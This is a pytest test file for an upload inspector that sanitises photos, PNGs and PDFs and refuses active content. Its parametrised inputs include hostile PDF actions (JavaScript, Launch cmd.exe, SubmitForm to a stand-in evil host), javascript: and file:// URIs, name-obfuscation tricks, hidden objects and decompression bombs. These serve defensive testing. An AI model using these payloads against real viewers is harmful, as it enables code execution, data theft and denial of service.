"""Files by their content: what is taken, what is refused and why, and what a picture no longer carries."""

from __future__ import annotations

import io
import random
import re
import string
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress

import pypdf
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf.annotations import Link
from pypdf.errors import LimitReachedError
from pypdf.generic import ArrayObject, NameObject

from bot.sandbox import Limits, Sandbox
from bot.tickets import inspection
from bot.tickets.documents import _Reading, rewritten
from bot.tickets.inspection import MOST_BYTES, Bounded, Unfit, inspect

GPS, MADE_BY, ORIENTATION = 0x8825, 0x010F, 0x0112
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def picture(format: str, mode: str = "RGB", size: tuple[int, int] = (40, 20), **options: object) -> bytes:
    """A picture of nothing much."""
    out = io.BytesIO()
    Image.new(mode, size, 100).save(out, format, **options)
    return out.getvalue()


def photo(**more: int) -> bytes:
    """A photo that says where it was taken."""
    exif = Image.Exif()
    exif[MADE_BY] = "Secretphone"
    exif.get_ifd(GPS).update({1: "N", 2: (13.0, 45.0, 23.0), 3: "E", 4: (100.0, 30.0, 6.0)})
    for tag, value in more.items():
        exif[int(tag[1:])] = value
    return picture("JPEG", exif=exif.tobytes(), comment=b"Somsri's house")


def pdf(inside: bytes) -> bytes:
    """A PDF with this in its catalogue."""
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + inside)


def stream(dictionary: bytes, data: bytes) -> bytes:
    """An object with a stream."""
    return b"2 0 obj\n<< " + dictionary + b" >>\nstream\r\n" + data + b"\nendstream\nendobj\n"


def with_object(thing: bytes) -> bytes:
    """A PDF with one more object."""
    return PDF.replace(b"trailer", thing + b"trailer")


def refusal(name: str, content: bytes) -> str:
    """Why a file is not taken."""
    with pytest.raises(Unfit) as refused:
        inspect(name, content)
    return refused.value.reason


# Types ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content"), [("jpg", picture("JPEG")), ("png", picture("PNG")), ("pdf", PDF)]
)
@pytest.mark.parametrize("name", ["a.exe", "a.pdf", "a.png", "a", "a.jpg.html"])
def test_the_content_says_what_a_file_is(kind: str, content: bytes, name: str) -> None:
    """Whatever the name ends in, kind and new ending come from the first bytes."""
    found = inspect(name, content)

    assert (kind, kind) == (found.kind, found.name.rpartition(".")[2])


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xd8",
        b"MZ\x90\x00",
        b"PK\x03\x04",
        b"<svg onload='alert(1)'/>",
        b" %PDF-1.7\n%%EOF",
        picture("GIF"),
        picture("WEBP"),
        picture("BMP"),
        picture("TIFF"),
    ],
)
def test_other_content_is_refused_under_a_good_name(content: bytes) -> None:
    """A name that ends in .jpg makes no JPEG, nor do 0 bytes."""
    assert "kind" == refusal("receipt.jpg", content)


def test_too_many_bytes_are_refused() -> None:
    """One byte more than fits into a letter is too big, before anything is read."""
    padding = b"%" * (MOST_BYTES - len(PDF) - 1) + b"\n"

    assert "pdf" == inspect("a.pdf", PDF.replace(b"1 0 obj", padding + b"1 0 obj")).kind
    assert "big" == refusal("a.pdf", b"%PDF-" + b"0" * MOST_BYTES)


# Pictures ---------------------------------------------------------------------------------------------


def test_a_photo_no_longer_says_where_it_was_taken() -> None:
    """EXIF with GPS, maker and comment are gone, and none of their bytes is left."""
    before = photo()
    assert Image.open(io.BytesIO(before)).getexif().get_ifd(GPS)

    after = inspect("home.jpg", before).content

    clean = Image.open(io.BytesIO(after))
    assert ({}, {}) == (dict(clean.getexif()), dict(clean.getexif().get_ifd(GPS)))
    assert (b"Secretphone" in before, b"Secretphone" in after) == (True, False)
    assert b"Somsri" not in after


def test_text_chunks_and_what_follows_the_end_of_a_png_are_gone() -> None:
    """A PNG's comments, and a second file behind it, do not ride along."""
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", "Somsri")
    before = picture("PNG", pnginfo=notes) + b"PK\x03\x04hidden"

    after = inspect("a.png", before).content

    assert b"Somsri" in before
    assert b"Somsri" not in after
    assert b"hidden" not in after


def test_a_photo_stands_upright() -> None:
    """The orientation that EXIF asked for is in the pixels, since EXIF is gone."""
    after = Image.open(io.BytesIO(inspect("a.jpg", photo(t274=6)).content))

    assert (20, 40) == after.size


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pngs_of_all_modes_are_taken(mode: str) -> None:
    """Black and white, grey, palette, transparent, 16 bits: they look as before."""
    before = picture("PNG", mode)

    after = inspect("a.png", before).content

    def seen(content: bytes) -> bytes:
        return Image.open(io.BytesIO(content)).convert("RGBA").tobytes()

    assert seen(before) == seen(after)


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_jpegs_of_all_modes_are_taken(mode: str) -> None:
    """Grey, colour and print colours."""
    after = Image.open(io.BytesIO(inspect("a.jpg", picture("JPEG", mode)).content))

    assert ("JPEG", mode) == (after.format, after.mode)


def test_too_many_pixels_are_refused_before_they_are_drawn() -> None:
    """A small file that would unfold into gigabytes is refused by its header."""
    assert "big" == refusal("a.png", bomb(6000, 6000))
    assert refusal("a.png", bomb(60_000, 60_000)) in ("big", "broken")


def bomb(width: int, height: int) -> bytes:
    """A PNG that says how large it is, and says no more."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    *parts: bytes, width: int = 10, height: int = 10, depth: int = 8, colour: int = 2, laced: int = 0
) -> bytes:
    """A PNG of these parts, with a head and an end."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, laced)
    return b"\x89PNG\r\n\x1a\n" + b"".join((chunk(b"IHDR", head), *parts, chunk(b"IEND", b"")))


def zeros(n: int) -> bytes:
    """Compressed, a thousandth of it."""
    packer = zlib.compressobj(9)
    return b"".join(
        [
            *(packer.compress(bytes(1 << 20)) for _ in range(n >> 20)),
            packer.compress(bytes(n & 0xFFFFF)),
            packer.flush(),
        ]
    )


UPRIGHT = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0"


@pytest.mark.parametrize(("depth", "laced"), [(8, 0), (8, 1), (16, 0)])
def test_the_largest_picture_fits_into_what_the_sandbox_may_use(depth: int, laced: int) -> None:
    """A hundred kilobytes that unfold into 25 million points, to be turned upright, interlaced or of 16 bits:
    drawn within the memory that the kernel holds the sandbox to."""
    data = zeros(5000 * 5000 * 4 * depth // 8 + 20_000)

    content = png(
        chunk(b"eXIf", UPRIGHT),
        chunk(b"IDAT", data),
        width=5000,
        height=5000,
        depth=depth,
        colour=6,
        laced=laced,
    )

    assert "png" == inspect("a.png", content).kind


@pytest.mark.parametrize("kind", [b"zTXt", b"iCCP", b"iTXt"])
def test_notes_and_profiles_that_unfold_are_cut_out(kind: bytes) -> None:
    """A gigabyte of note in a megabyte is not unfolded to be thrown away."""
    head = {b"zTXt": b"a\0\0", b"iCCP": b"a\0\0", b"iTXt": b"a\0\1\0\0\0"}[kind]
    picture = chunk(b"IDAT", zlib.compress(bytes(310)))

    kept = inspect("a.png", png(chunk(kind, head + zeros(1 << 28)), picture)).content

    assert len(kept) < 200


def test_a_picture_in_countless_parts_is_broken() -> None:
    """Each part costs more than it weighs: empty chunks, empty segments, one scan after another."""
    whole = picture("JPEG", progressive=True)
    scan = whole[whole.rindex(b"\xff\xda") : -2]

    assert "broken" == refusal("a.png", png(*[chunk(b"IDAT", b"")] * 20_000))
    assert "broken" == refusal("a.jpg", whole[:2] + b"\xff\xfe\0\2" * 20_000 + whole[2:])
    assert "broken" == refusal("a.jpg", whole[:-2] + scan * 1000 + whole[-2:])


def test_a_picture_that_grows_when_it_is_drawn_anew_is_too_big() -> None:
    """What is kept has to fit into a letter, too; drawing stops as soon as it does not."""
    out = io.BytesIO()
    Image.frombytes("RGB", (3700, 3700), random.Random(1).randbytes(3700 * 3700 * 3)).save(
        out, "JPEG", quality=75
    )

    assert len(out.getvalue()) < MOST_BYTES
    assert "big" == refusal("a.jpg", out.getvalue())


def test_exif_that_makes_pillow_stumble_is_broken() -> None:
    """A value of the wrong type raises struct.error, TypeError and more: to the person it is one thing."""
    fraction_for_width = struct.pack(">HHII", 0x0100, 5, 1, 38) + struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0)
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x02" + fraction_for_width + bytes(4) + struct.pack(">II", 1, 3)

    assert "broken" == refusal("a.jpg", picture("JPEG", exif=exif))


def test_a_file_that_outlasts_what_it_may_use_is_broken(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever killed its process, the person hears of their file; the next file is looked into."""
    hurried = Sandbox("tests.bot.hostile_work", Limits(cpu=1, seconds=60, memory=1 << 28))
    monkeypatch.setattr(inspection, "_sandbox", hurried)

    assert "broken" == refusal("a.pdf", b"%PDF-frozen")
    assert b"next" == hurried.run(b"next")
    hurried.close()


@pytest.mark.parametrize("format", ["JPEG", "PNG"])
@pytest.mark.parametrize("share", [0.1, 0.5, 0.9])
def test_a_truncated_picture_is_broken(format: str, share: float) -> None:
    """Half a picture is refused, not kept in grey."""
    whole = noise(format)

    assert "broken" == refusal("a", whole[: int(len(whole) * share)])


def noise(format: str) -> bytes:
    """A picture that hardly compresses."""
    out = io.BytesIO()
    Image.frombytes("RGB", (64, 64), random.Random(1).randbytes(64 * 64 * 3)).save(out, format)
    return out.getvalue()


def test_a_photo_with_damaged_exif_is_taken_or_broken() -> None:
    """EXIF that is none is no reason to stumble."""
    for exif in (
        b"Exif\0\0garbage",
        b"Exif\0\0",
        b"Exif\0\0II*\0\xff\xff\xff\xff",
        b"Exif\0\0MM\0*\0\0\0\x08\xff\xff",
    ):
        taken_or_refused(picture("JPEG", exif=exif))


@given(format=st.sampled_from(["JPEG", "PNG", "EXIF"]), data=st.data())
@settings(max_examples=400)
def test_a_damaged_picture_is_taken_or_refused_and_nothing_else(format: str, data: st.DataObject) -> None:
    """Bytes changed anywhere end in a picture or in a reason, never in another exception."""
    content = bytearray(photo() if format == "EXIF" else noise(format)[:3000])
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, min(len(content) - 1, 400)))] = data.draw(st.integers(0, 255))

    taken_or_refused(bytes(content))


@given(st.binary(max_size=200), st.sampled_from([b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-", b""]))
@settings(max_examples=300)
def test_garbage_behind_good_first_bytes_is_refused(rest: bytes, magic: bytes) -> None:
    """The first bytes alone make no file."""
    taken_or_refused(magic + rest)


def taken_or_refused(content: bytes) -> None:
    assert outcome(content) in ("jpg", "png", "pdf", "big", "kind", "broken", "active", "locked")


# PDFs -------------------------------------------------------------------------------------------------


def test_a_document_is_written_anew_with_all_that_it_shows() -> None:
    """Its pages, links, outline and title are those that came; what it was before, and how it was packed, is gone."""
    came = changed(written())

    kept = inspect("a.pdf", came).content
    document = pypdf.PdfReader(io.BytesIO(kept), strict=True)

    assert [90, 0, 0] == [page.rotation for page in document.pages]
    assert "หนังสือ (ฉบับที่ 1)" == document.metadata["/Title"]
    assert ["บทที่ 1"] == [each["/Title"] for each in document.outline]
    assert 4 == sum(len(page["/Annots"]) for page in document.pages if "/Annots" in page)
    assert (1, 1) == (kept.count(b"startxref"), kept.count(b"%%EOF"))
    assert b"/ObjStm" not in inspect("a.pdf", packed(CATALOG)).content


@pytest.mark.parametrize(
    "inside",
    [
        b"/OpenAction 5 0 R",
        b"/AA << /O 5 0 R >>",
        b"/Names << /JavaScript 5 0 R >>",
        b"/A << /S /JavaScript /JS (app.alert(1)) >>",
        b"/A << /S/Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFile 5 0 R >>",
        b"/AcroForm << /XFA 5 0 R >>",
        b"/Subtype /RichMedia",
        b"/A << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        b"/#4fpenAction 5 0 R",
    ],
)
def test_an_active_pdf_is_refused(inside: bytes) -> None:
    """What would run, open or unpack something by itself is not passed on, also with its name disguised."""
    assert "active" == refusal("a.pdf", pdf(inside))


def test_active_parts_within_compressed_objects_are_found() -> None:
    """Newer PDFs keep their objects compressed; they are looked into."""
    objects = zlib.compress(b"3 0 << /S /JavaScript /JS (app.alert(1)) >>")

    assert "active" == refusal(
        "a.pdf", with_object(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", objects))
    )


def test_a_scan_whose_pixels_spell_a_name_is_taken() -> None:
    """Three bytes of a compressed picture that happen to read /JS or /AA make no active document."""
    pixels = b"\x01\x02/JS \x03/AA<"

    assert "pdf" == inspect("scan.pdf", with_object(stream(b"/Filter /DCTDecode", pixels))).kind


def test_a_locked_pdf_is_refused() -> None:
    """Nobody at the desk could open it."""
    assert "locked" == refusal("a.pdf", PDF.replace(b"/Root", b"/Encrypt 9 0 R /Root"))


@pytest.mark.parametrize("content", [b"%PDF-", b"%PDF-1.7\n", PDF[:-10]])
def test_a_pdf_without_its_end_is_broken(content: bytes) -> None:
    """A transfer that stopped early."""
    assert "broken" == refusal("a.pdf", content)


def test_documents_of_ordinary_programs_are_taken() -> None:
    """A scan of several pages; pages with links, outlines and a title, opening at a place in them, saved again
    with a change; objects packed into streams."""
    assert ["pdf"] * 4 == [outcome(each) for each in (scan(), written(), changed(written()), packed(CATALOG))]


def outcome(content: bytes) -> str:
    """The kind of a file that is taken, or why it is not."""
    try:
        return inspect("a", content).kind
    except Unfit as unfit:
        return unfit.reason


def scan() -> bytes:
    """As an app makes it that photographs paper."""
    pages = [Image.effect_noise((600, 800), 30).convert("RGB") for _ in range(3)]
    out = io.BytesIO()
    pages[0].save(out, "PDF", save_all=True, append_images=pages[1:], title="ใบเสร็จ")
    return out.getvalue()


def written() -> bytes:
    """As a word processor or a browser writes it."""
    writer = pypdf.PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": "หนังสือ (ฉบับที่ 1)", "/Producer": "Writer"})
    writer.add_outline_item(title="บทที่ 1", page_number=1)
    for target in ("https://example.co.th/docs/JavaScript?a=(1)", "mailto:a@example.co.th", "annex.pdf"):
        writer.add_annotation(0, Link(rect=(0, 0, 100, 20), url=target))
    writer.add_annotation(1, Link(rect=(0, 0, 100, 20), target_page_index=2))
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def changed(before: bytes) -> bytes:
    """With a revision behind it."""
    writer = pypdf.PdfWriter(io.BytesIO(before), incremental=True)
    writer.pages[0].rotate(90)
    out = io.BytesIO()
    writer.write(out)
    assert out.getvalue().startswith(before)
    return out.getvalue()


CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"
BAD = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def packed(
    first: bytes,
    dictionary: bytes = b"/Filter /FlateDecode",
    pack: Callable[[bytes], bytes] = zlib.compress,
    type: bytes = b"/Type /ObjStm",
) -> bytes:
    """A document whose objects, of which the catalogue is the first, are packed into a stream (ISO 32000-2, 7.5.7),
    with a table that is a stream."""
    objects = (
        first,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )
    offsets = [sum(len(each) + 1 for each in objects[:n]) for n in range(len(objects))]
    head = b" ".join(b"%d %d" % (n, offset) for n, offset in enumerate(offsets, 1)) + b"\n"
    data = pack(head + b"\n".join(objects))
    out = b"%PDF-1.5\n"
    begins = len(out)
    out += b"4 0 obj\n<< " + type + b" /N 3 /First %d /Length %d " % (len(head), len(data)) + dictionary
    out += b" >>\nstream\n" + data + b"\nendstream\nendobj\n"
    table = len(out)
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, begins, 0), (1, table, 0)]
    entries = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(entries)
    return out + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table


@pytest.mark.parametrize(
    "inside",
    [
        b"/A << /S /SubmitForm /F (http://evil.example/) >>",
        b"/A << /S /ImportData /F (data.fdf) >>",
        b"/A << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
        b"/A << /S /GoToE /T << /R /C >> >>",
        b"/A << /S /Rendition /OP 0 >>",
        b"/A << /S /Thread /F (other.pdf) >>",
        b"/A << /S /Thread /F << /FS /URL >> >>",
        b"/A << /S /Thread /F %\n <6f74686572> >>",
        b"/A << /S /#53ubmitForm >>",
        b"/A << /S % comment\n /Lau#6ech >>",
        b"/A << /S /GoTo /S /JavaScript >>",
        b"/Kind null /A << /S /JavaScript >>",
        b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 5 0 R >> >>] >> >>",
        b"/Subtype /Movie",
        b"/Subtype /Sound",
        b"/Subtype /FileAttachment",
        b"/OpenAction << /S /URI /URI (https://example.com) >>",
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>",
        b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>",
        b"/A << /S /URI /URI (JavaS\\\ncript:alert\\(1\\)) >>",
        b"/A << /S /URI /URI (\\152avascript:alert) >>",
        b"/A << /S /URI /URI <6a6176617363726970743a61> >>",
        b"/A << /S /URI /URI (file://evil/share) >>",
        b"/A << /S /URI /URI (\\\\\\\\evil\\\\share) >>",
        b"/A << /S /URI /URI 5 0 R >>",
        b"/URI << /Base (javascript:) >> /A << /S /URI /URI (alert) >>",
        b"/A << /S /URI /URI (//evil/share) >>",
        b"/A << /S /URI /URI ( \\057/evil) >>",
        b"/A << /S /URI /URI (/\\t/evil) >>",
        b"/A << /S /URI /URI (\xef\xbb\xbf//evil) >>",
        b"/URI << /Base 5 0 R >> /A << /S /URI /URI (invoice.exe) >>",
        b"/URI << /Base /file:#2F#2Fevil#2Fshare >>",
        b"/A << /S /URI /URI /file:#2F#2Fevil#2Fshare >>",
        b"/A << /S /URI /URI /javascript:alert#281#29 >>",
        b"/A << /Type /Action /S /URI /URI /javascript:alert >>",
        b"/FS << /F /other.pdf >>",
        b"/A << /S /Thread /D 0 >>",
        b"/A << /S /X /F 5 0 R >>",
        b"/Ref << /Page 0 >>",
        b"/Ref 5 0 R",
        b"/Subtype /Text /FS << /EF << /F 5 0 R >> >>",
        b"/OPI << /2.0 << /F (other.eps) >> >>",
        b"/A << /S /Launch /Win << /O (print) >> >>",
        b"/AcroForm << /Fields [<< /A#41 5 0 R >>] >>",
        b"/AcroForm << /XFA [(a) 5 0 R] >>",
    ],
)
def test_what_sends_opens_or_leads_elsewhere_is_refused(inside: bytes) -> None:
    """Every action that acts on something outside of the document, however it is spelt; of links those that are
    none."""
    assert "active" == refusal("a.pdf", pdf(inside))


HERE, AWAY = b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /URI /URI (https://evil.example) >>"


def opening(*ways: bytes, objects: tuple[bytes, ...] = ()) -> bytes:
    """A document that says several times what it opens with, with objects numbered 5."""
    more = b"".join(b"5 0 obj\n" + each + b"\nendobj\n" for each in objects)
    said = b" ".join(b"/OpenAction " + each for each in ways)
    return pdf(said).replace(b"trailer", more + b"trailer")


@pytest.mark.parametrize("first", [HERE, AWAY], ids=["here", "away"])
def test_of_two_ways_to_open_neither_may_act(first: bytes) -> None:
    """Twice in a catalogue, in two catalogues, in two objects of one number: viewers differ in which they take."""
    ways = (first, AWAY if first is HERE else HERE)
    catalogue = b"9 0 obj\n<< /Type /Catalog /OpenAction " + ways[1] + b" >>\nendobj\n"
    rooted = opening(first).replace(b"trailer", catalogue + b"trailer << /Root 9 0 R >>\ntrailer")

    assert ["active"] * 3 == [
        outcome(each) for each in (opening(*ways), rooted, opening(b"5 0 R", objects=ways))
    ]


def test_a_document_may_open_at_a_place_by_a_reference() -> None:
    """As LaTeX writes it, in each revision."""
    assert "pdf" == outcome(opening(b"5 0 R", b"5 0 R", objects=(HERE, HERE)))


@pytest.mark.parametrize(
    "content",
    [
        opening(b"<< /S /GoTo /S /URI >>"),
        opening(b"<< /S 5 0 R >>", objects=(b"/GoTo", b"/URI")),
        opening(b"5 0 R", objects=(b"6 0 R",)),
        opening(b"5 0 R", objects=(HERE,)).replace(b"trailer", b"5 %\n 0 obj " + AWAY + b" endobj\ntrailer"),
        opening(b"5 0 R", objects=(HERE,)).replace(b"trailer", b"05 0 obj " + AWAY + b" endobj\ntrailer"),
        opening(*[b"5 0 R"] * 300, objects=(HERE,)),
        pdf(b"/F 5 % \n0 R"),
    ],
    ids=range(7),
)
def test_an_action_whose_kind_cannot_be_told_is_refused(content: bytes) -> None:
    """A key twice, a kind by reference, a number or a reference torn apart by a comment, more openings than
    revisions."""
    assert outcome(content) in ("active", "broken")


LONG = b"[" + b"1 " * 20_000 + b"]"
NESTED = b"<< /OpenAction [" * 20 + LONG + b"] >>" * 20


def of_objects(count: int, objects: bytes) -> bytes:
    """A document with a stream of objects, each of which begins a byte behind the one before."""
    head = b"".join(b"%d %d " % (20 + n, n) for n in range(count))
    said = b"/Type /ObjStm /N %d /First %d /Length %d" % (count, len(head), len(head + objects))
    return with_object(stream(said, head + objects))


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"/X " + NESTED),
        opening(*[b"5 0 R"] * 20, objects=(LONG,) * 20),
        of_objects(1, NESTED),
        of_objects(20, b"[" * 20 + LONG + b"]" * 20).replace(b"/Root 1", b"/Root 25"),
    ],
    ids=["openings within one another", "objects of one number", "packed", "objects within one another"],
)
def test_what_is_parsed_over_and_over_is_counted_each_time(content: bytes) -> None:
    """However few words it has: a document is given up, as broken, before it costs more than others can wait for."""
    with pytest.raises(LimitReachedError):
        rewritten(content)


@pytest.mark.parametrize("inside", [b"/Ref [5 0 R]", b"/X [<< /F 4 >> 5 0 R]", b"/F 4 /X 5 0 R"])
def test_flags_and_references_within_a_document_are_taken(inside: bytes) -> None:
    """Those of notes and of tagged text bear the names that elsewhere mean another file."""
    assert "pdf" == outcome(pdf(inside))


@pytest.mark.parametrize(
    "content",
    [
        with_object(b"9 0 obj\n" + BAD + b"\nendobj\n"),
        with_object(stream(b"/Length 70", b"9 0 obj\n" + BAD + b"\nendobj\n")),
        with_object(stream(b"/Length 100", b"9" + b" " * 30 + b"0 obj\n" + BAD + b"\nendobj\n")),
        with_object(b"2 0 obj\n(9 0 obj " + BAD + b" endobj)\nendobj\n"),
        with_object(b"%9 0 obj " + BAD + b" endobj\n"),
        with_object(stream(b"/Length 0 /F (/etc/passwd)", b"")),
        with_object(b"%<ScRiPt>alert(1)</script>\n"),
        packed(CATALOG.replace(b"/S /GoTo", b"/S /JavaScript")),
        packed(CATALOG.replace(b"/S /GoTo", b"/S /Java#53cript")),
        packed(
            CATALOG + BAD,
            b"/Filter [/ASCIIHexDecode /FlateDecode]",
            lambda data: zlib.compress(data).hex().encode() + b">",
        ),
        packed(CATALOG + BAD, b"/X (" + b"a" * 500 + b") /Filter /FlateDecode"),
        packed(b"<< /X /endstream >>" + BAD, b"", bytes),
        packed(CATALOG + BAD, type=b"/Type /Obj#53tm"),
        packed(CATALOG + BAD, type=b""),
        changed(written()).replace(b"/Title", b"/AA 1 0 R %"),
    ],
    ids=range(15),
)
def test_nothing_active_hides(content: bytes) -> None:
    """In an object that no table names, in a stream, a string, a comment; in another file; in packed objects,
    whatever their stream is called and however it is filtered; in an earlier revision."""
    assert "active" == refusal("a.pdf", content)


def test_one_object_is_not_written_as_many() -> None:
    """A table that points at each digit of its number makes ten of it, each as large as the file."""
    digits, size = "1" * 6, 1_000_000
    out = bytearray(b"%PDF-1.7\n")
    places = {int(digits[n:]): len(out) + n for n in range(len(digits))}
    out += (
        f"{digits} 0 obj\n<</Length {size}>>\nstream\n".encode() + b"\x80" * size + b"\nendstream\nendobj\n"
    )
    contents = " ".join(f"{each} 0 R" for each in sorted(places))
    for number, text in (
        (2, "<</Type/Catalog/Pages 3 0 R>>"),
        (3, "<</Type/Pages/Kids[4 0 R]/Count 1>>"),
        (4, f"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Contents[{contents}]>>"),
    ):
        places[number] = len(out)
        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(places):
        out += f"{number} 1\n{places[number]:010d} 00000 n \n".encode()
    out += f"trailer\n<</Root 2 0 R/Size 5>>\nstartxref\n{table}\n%%EOF\n".encode()

    assert "active" == refusal("a.pdf", bytes(out))


def test_what_grows_when_it_is_written_anew_is_refused() -> None:
    """What is kept is bounded, and not only what comes in."""
    out = Bounded()
    out.write(b"x" * MOST_BYTES)

    with pytest.raises(Unfit, match="big"):
        out.write(b"x")


def test_a_table_that_leads_into_a_stream_is_refused() -> None:
    """A viewer would find an object where nobody reads."""
    hidden = b"3" + b" " * 30 + b"0 obj << /S /GoTo /D [1 0 R] >>"
    begins = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n<< /Length 60 >>\nstream\n"
    objects = begins + hidden + b"\nendstream\nendobj\n"
    offsets = (9, objects.index(b"2 0 obj"), len(begins))
    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % each for each in offsets)
    end = b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n%d\n%%%%EOF\n" % len(objects)
    content = objects + table + end

    assert "active" == refusal("a.pdf", content)


ACTS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def numbered(*objects: tuple[int, bytes], table: Callable[[dict[int, int]], dict[int, int]] = dict) -> bytes:
    """A document of these objects, with a table in which some are said to lie elsewhere."""
    out, places = b"%PDF-1.7\n", dict[int, int]()
    for number, each in objects:
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    places |= table(places)
    rows = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(21)]
    end = b"trailer\n<</Size 21/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    return out + b"xref\n0 21\n" + b"".join(rows) + end


def in_a_stream(header: bytes) -> bytes:
    """One whose table leads to an object in a stream, under a header that not everybody takes for one."""
    hidden = header + ACTS + b"\nendobj\n"
    catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>"
    honest = b"<</S/GoTo/D[3 0 R/Fit]>>"
    begins = b"<</Length %d>>\nstream\n" % len(hidden)
    carrier = begins + hidden + b"endstream"

    def leads(places: dict[int, int]) -> dict[int, int]:
        return {10: places[4] + len(b"4 0 obj\n") + len(begins)}

    objects = ((1, catalogue), (2, PAGES[0]), (3, PAGES[1]), (10, honest), (4, carrier))
    return numbered(*objects, table=leads)


def with_an_end_in_it(leads: str) -> bytes:
    """One in a stream of which the end of another file stands, with a catalogue that acts."""
    table = b"xref\n0 1\n0000000000 65535 f \n"
    acts = b"trailer\n<</Size 4/Root<</Type/Catalog/Pages 2 0 R/OpenAction" + ACTS + b">>>>\n"
    carrier = b"<</Length %d>>\nstream\n" % len(table + acts) + table + acts + b"endstream"
    honest = ((1, b"<</Type/Catalog/Pages 2 0 R>>"), (2, PAGES[0]), (3, PAGES[1]), (4, carrier))
    content = numbered(*honest)
    to = content.index(table) if leads == "there" else 99_999_999
    return content.replace(b"startxref\n%d" % content.rindex(b"xref\n0 21"), b"startxref\n%d" % to)


@pytest.mark.parametrize(
    "content",
    [
        *map(
            in_a_stream, (b"10 0 obj\n", b"10 %x\n0 obj\n", b"10 0%\nobj\n", b"10 0. obj\n", b"010 0 obj\n")
        ),
        *map(with_an_end_in_it, ("there", "nowhere")),
        packed(b"%" + ACTS + b"\n" + CATALOG),
        pdf(
            b"/Title (trailer<</Root<</Type/Catalog/OpenAction"
            + ACTS.replace(b"(app.alert\\(1\\))", b"<61>")
            + b">>>>)"
        ),
    ],
    ids=range(9),
)
def test_what_is_hidden_from_one_reading_is_not_passed_on(content: bytes) -> None:
    """It is refused, or what is passed on has nothing of it that any viewer could take for an object."""
    try:
        kept = inspect("a.pdf", content).content
    except Unfit:
        return
    document = pypdf.PdfReader(io.BytesIO(kept), strict=True)

    places = {number: begins for each in document.xref.values() for number, begins in each.items()}

    assert not any("/JS" in each for each in map(document.get_object, places) if isinstance(each, dict))
    assert all(kept[begins:].startswith(b"%d 0 obj" % number) for number, begins in places.items())
    assert len(places) == len(re.findall(rb"(?m)^[0-9]+ 0 obj$", without_streams(kept)))


def without_streams(content: bytes) -> bytes:
    """A document without what its streams hold."""
    return re.sub(rb"stream\n.*?\nendstream", b"", content, flags=re.DOTALL)


def test_the_word_trailer_is_anybodys() -> None:
    """An invoice for one is taken."""
    assert "pdf" == outcome(pdf(b"/Title (Boat trailer invoice)"))


def archive(comment: bytes) -> bytes:
    """A ZIP file with a comment at its end."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zip:
        zip.writestr("evil.class", b"x" * 50)
        zip.comment = comment
    return out.getvalue()


